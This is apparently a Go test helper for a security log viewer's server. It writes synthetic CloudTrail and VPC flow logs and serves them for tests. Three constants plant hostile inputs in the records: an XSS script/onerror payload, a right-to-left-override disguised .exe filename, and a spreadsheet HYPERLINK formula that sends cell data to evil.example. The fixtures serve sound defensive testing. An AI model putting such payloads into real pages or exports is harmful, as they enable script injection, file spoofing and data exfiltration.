package server

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/yagura-sec/yagura/ingest"
	"github.com/yagura-sec/yagura/lake"
	"github.com/yagura-sec/yagura/source"
	"github.com/yagura-sec/yagura/store"
)

// Hostile texts, as they stand in records of the test's lake.
const (
	scripted = `<script>window.pwned=1</script><img src=x onerror="window.pwned=2">`
	reversed = "evil\u202etxt.exe\u200b"
	formula  = `=HYPERLINK("http://evil.example/?"&A1,"click")`
)

// began is when the test's events begin.
var began = time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)

// clock is the test's now: two days later.
func clock() time.Time { return began.Add(48 * time.Hour) }

type object = map[string]any

// trailEvent is one CloudTrail record.
func trailEvent(i int, change func(object)) object {
	users := []string{"alice", "bob", "carol"}
	names := []string{"ListBuckets", "GetObject", "ConsoleLogin", "DescribeInstances"}
	e := object{
		"eventVersion": "1.08", "eventTime": began.Add(time.Duration(i) * 10 * time.Minute).Format(time.RFC3339),
		"eventSource": "s3.amazonaws.com", "eventName": names[i%4], "awsRegion": []string{"us-east-1", "ap-northeast-1"}[i%2],
		"sourceIPAddress": fmt.Sprintf("198.51.100.%d", i%5+1), "userAgent": "aws-cli/2.15", "requestID": fmt.Sprintf("REQ%06d", i),
		"eventID":   fmt.Sprintf("00000000-0000-4000-8000-%012d", i),
		"eventType": "AwsApiCall", "recipientAccountId": "111122223333", "eventCategory": "Management", "managementEvent": true, "readOnly": true,
		"userIdentity": object{
			"type": "IAMUser", "principalId": "AIDAEXAMPLE" + users[i%3], "arn": "arn:aws:iam::111122223333:user/" + users[i%3],
			"accountId": "111122223333", "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "userName": users[i%3],
		},
		"requestParameters": object{"bucketName": "reports-" + users[i%3]}, "responseElements": nil,
	}
	if i%10 == 9 {
		e["errorCode"], e["errorMessage"] = "AccessDenied", "Access Denied"
	}
	if change != nil {
		change(e)
	}
	return e
}

// writeLogs writes 240 CloudTrail events over 40 hours, three of them hostile,
// one unreadable record, and flow records with a SKIPDATA line.
func writeLogs(t testing.TB, dir string) {
	t.Helper()
	events := []any{}
	for i := range 240 {
		var change func(object)
		switch i {
		case 100:
			change = func(e object) { e["userAgent"], e["eventName"] = scripted, scripted }
		case 101:
			change = func(e object) { e["userAgent"], e["requestParameters"] = reversed, object{"bucketName": reversed} }
		case 102:
			change = func(e object) { e["userAgent"], e["errorCode"] = formula, formula }
		}
		events = append(events, trailEvent(i, change))
	}
	events = append(events, object{"eventVersion": "1.08", "eventName": "<b>no time</b>", "eventTime": "not a time", "eventSource": "s3.amazonaws.com"})
	var body bytes.Buffer
	enc := json.NewEncoder(&body)
	enc.SetEscapeHTML(false) // Hostile texts stand in the raw record as they are.
	if err := enc.Encode(object{"Records": events}); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "AWSLogs/111122223333/CloudTrail/us-east-1/2026/10/01/111122223333_CloudTrail_us-east-1_20261001T0005Z_0123456789abcdef.json.gz"), body.Bytes())

	var flows strings.Builder
	flows.WriteString("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n")
	for i := range 30 {
		if i >= 10 && i < 13 {
			continue // a gap of three hours
		}
		at := began.Add(time.Duration(i) * time.Hour).Unix()
		fmt.Fprintf(&flows, "2 111122223333 eni-0a1b2c3d 198.51.100.%d 10.0.0.5 %d 443 6 10 %d %d %d ACCEPT OK\n", i%5+1, 40000+i, 1000+i, at, at+60)
	}
	at := began.Add(3 * time.Hour).Unix()
	fmt.Fprintf(&flows, "2 111122223333 eni-0a1b2c3d - - - - - - - %d %d - SKIPDATA\n", at, at+60)
	write(t, filepath.Join(dir, "AWSLogs/111122223333/vpcflowlogs/us-east-1/2026/10/01/111122223333_vpcflowlogs_us-east-1_fl-0a1b2c3d_20261001T0005Z_0a1b2c3d.log.gz"), []byte(flows.String()))
}

func write(t testing.TB, name string, body []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	z := gzip.NewWriter(f)
	if _, err := z.Write(body); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// newConfig opens a lake with the logs of writeLogs, or an empty one.
func newConfig(t testing.TB, full bool) Config {
	t.Helper()
	dir := t.TempDir()
	l, err := lake.Open(t.Context(), lake.Config{Dir: filepath.Join(dir, "lake"), Schemas: source.Schemas()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	if full {
		logs := filepath.Join(dir, "logs")
		writeLogs(t, logs)
		if _, err := ingest.Run(t.Context(), l, ingest.Config{Roots: []string{logs}, Sources: source.All(), Compact: true}); err != nil {
			t.Fatal(err)
		}
	}
	s, err := store.Open(t.Context(), filepath.Join(dir, "state"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return Config{Lake: l, Store: s, Schemas: source.Schemas(), Zone: time.UTC, Now: clock}
}

// newServer serves such a lake.
func newServer(t testing.TB, full bool) *httptest.Server {
	t.Helper()
	return serving(t, newConfig(t, full))
}

// serving serves what a configuration says.
func serving(t testing.TB, cfg Config) *httptest.Server {
	t.Helper()
	h, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv
}

// head is an answer without its body.
type head struct {
	StatusCode int
	Header     http.Header
}

// fetch sends a request and gives the answer and its body.
func fetch(t testing.TB, method, url, body string, header ...string) (head, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(header); i += 2 {
		if header[i] == "Host" {
			req.Host = header[i+1]
		}
		req.Header.Set(header[i], header[i+1])
	}
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	res, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var b strings.Builder
	buf := make([]byte, 32<<10)
	for {
		n, err := res.Body.Read(buf)
		b.Write(buf[:n])
		if err != nil {
			break
		}
	}
	return head{res.StatusCode, res.Header}, b.String()
}
